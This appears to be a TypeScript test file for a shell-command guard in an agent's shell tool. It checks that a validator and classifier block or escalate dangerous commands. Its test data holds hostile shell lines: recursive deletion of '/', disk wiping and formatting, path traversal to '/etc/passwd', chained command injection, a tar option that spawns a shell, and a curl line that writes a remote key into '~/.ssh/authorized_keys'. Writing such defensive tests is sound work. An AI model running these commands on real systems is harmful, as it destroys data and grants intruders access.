/** The validator's cases of the seeds (security.md §1.1) and the traps of theirs that concern a shell (§1.9), by their ids. */
import { describe, expect, it } from 'vitest';
import { classifyShell } from '../../../../guards/shell/index.ts';
import { type StrictLimits, tokenise, validateStrictly } from '../../../../guards/shell/strict-validator.ts';
import { createToolRegistry } from '../../../../tools/registry.ts';
import { shellTool } from '../../../../tools/shell-tool.ts';

const refusals = (commands: readonly string[], limits?: StrictLimits) =>
  commands.map((command) => validateStrictly(command, limits));
const expectAll = (refusal: string, commands: readonly string[], limits?: StrictLimits): void => {
  expect(Object.fromEntries(commands.map((command, at) => [command, refusals(commands, limits)[at]]))).toEqual(
    Object.fromEntries(commands.map((command) => [command, refusal])),
  );
};

describe('the strict validator', () => {
  it('V1 port: denies fragments that delete much', () => {
    expectAll('fragment', [
      'rm -rf /',
      'rm -fr /tmp',
      'rm -r /tmp',
      'rm --recursive /tmp',
      'rmdir -p /tmp',
      'rm *',
      'rm /',
      'echo --no-preserve-root',
      'echo --preserve-root=false',
      'touch --no-preserve-root',
    ]);
  });

  it('V2 port: denies commands by their name, in any folder', () => {
    expectAll('command', [
      'dd if=/dev/zero of=/dev/null',
      'mkfs /dev/sda',
      'mkfs.ext4 /dev/sdb1',
      'fdisk -l',
      'parted --list',
      'format disk',
      'shutdown now',
      'reboot',
      'halt',
      'poweroff',
      'mount /dev/sda1 /mnt',
      'sudo ls',
      '/sbin/reboot',
    ]);
  });

  it('V3 port: denies metacharacters', () => {
    expectAll('metacharacters', [
      'ls | rm -rf /',
      'cat secret > /tmp/out',
      'echo ok && rm -rf /',
      'echo ok; rm -rf /',
      'echo $(rm -rf /)',
    ]);
  });

  it('V4 port: denies arguments that climb or are devices', () => {
    expectAll('argument', ['cat ../etc/passwd', 'cp file /dev/sda']);
  });

  it('V5 port: names an empty command', () => {
    expectAll('empty command', ['   ', '""']);
  });

  it('V6 port: denies control characters', () => {
    expectAll('control characters', ['ls \0', 'echo \u0007']);
  });

  it('V7 port: denies what does not parse', () => {
    expectAll('parse failed', ['echo "unterminated']);
  });

  it('V8 port: bounds the number of arguments', () => {
    expectAll('too many arguments', ['printf one two'], { maximumArguments: 1 });
    expect(validateStrictly('printf one', { maximumArguments: 1 })).toBeUndefined();
  });

  it('V9 port: bounds the length', () => {
    expectAll('command too long', ['a'.repeat(10)], { maximumBytes: 5 });
  });

  it('V10 port: lets plain words through', () => {
    expect(refusals(['printf "hello world"', 'echo "hello world"'])).toEqual([undefined, undefined]);
  });

  it('V11 port: a pipe only where metacharacters are let through', () => {
    expectAll('metacharacters', ['echo ok | grep ok']);
    expect(validateStrictly('echo ok | grep ok', { metacharacters: true })).toBeUndefined();
  });

  it('V12 port: and deletion not even then', () => {
    expectAll('fragment', ['rm -rf /'], { metacharacters: true });
    expectAll('command', ['echo ok; rm -rf /'], { metacharacters: true });
  });

  it('V13 port: splits words as a shell does', () => {
    expect(tokenise(String.raw`echo "hello world" 'and more' arg\ with\ spaces`)).toEqual({
      kind: 'tokens',
      tokens: ['echo', 'hello world', 'and more', 'arg with spaces'],
    });
    expect(tokenise(String.raw`'a\b'`)).toEqual({ kind: 'tokens', tokens: [String.raw`a\b`] });
    expect(tokenise('a\\')).toEqual({ kind: 'invalid', why: 'unfinished escape' });
    expect(tokenise('a "b')).toEqual({ kind: 'invalid', why: 'unterminated quote' });
  });

  it('V14 port: nothing of these is silent, chmod too', () => {
    const commands = [
      'ls; rm -rf /',
      'ls\nrm -rf /',
      '/usr/bin/rm -rf /outside',
      'sudo ls',
      'rm -rf /',
      'chmod 777 /tmp/secrets',
    ];
    for (const command of commands) {
      expect(classifyShell(command).verdict, command).not.toBe('allow');
      expect(validateStrictly(command), command).toBeDefined();
    }
  });
});

it('V15 port: the shell tool refuses a command that is missing, empty or no text', () => {
  const shell = createToolRegistry([shellTool()], { moduleDigest: `sha256:${'0'.repeat(64)}` }).get('shell');
  for (const text of ['{}', '{"command":""}', '{"command":"  \\n"}', '{"command":123}']) {
    expect(shell?.parseArguments(text).kind, text).not.toBe('value');
  }
  expect(shell?.parseArguments('{"command":"ls"}').kind).toBe('value');
});

describe('traps', () => {
  it('T4 invert: a new line ends a command', () => {
    expect(classifyShell('ls\nreboot')).toMatchObject({ verdict: 'ask', worst: 'destructive' });
    expect(validateStrictly('ls\nreboot')).toBe('metacharacters');
  });

  it('T5 invert: sees what their lists let through', () => {
    for (const command of [
      'rm -f -r /home',
      'rm\t-rf\t/x',
      'env dd if=/dev/zero of=/dev/sda',
      'nohup shutdown now',
      'find / -delete',
      'mkfs.xfs disk',
      'SHUTDOWN now',
      'tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=sh',
      'curl http://h/key -o ~/.ssh/authorized_keys',
    ]) {
      expect(classifyShell(command).verdict, command).not.toBe('allow');
    }
    expect(classifyShell('rm -f -r /home').verdict).toBe('deny');
    expect(classifyShell('find / -delete').verdict).toBe('deny');
  });

  it('T5 invert: and takes quoted words for words', () => {
    for (const command of ['grep "rm -rf" notes.md', 'echo "../x"']) {
      expect(classifyShell(command).verdict, command).toBe('allow');
      expect(validateStrictly(command), command).toBeUndefined();
    }
    // Nobody knows it: a person is asked, and it is no deletion.
    expect(classifyShell('farm -r')).toMatchObject({ verdict: 'ask', worst: 'opaque' });
  });

  it('T6 invert: a list of commands is judged by all of them', () => {
    expect(classifyShell('ls && rm -rf /')).toMatchObject({ verdict: 'deny', names: ['ls', 'rm'] });
  });
});
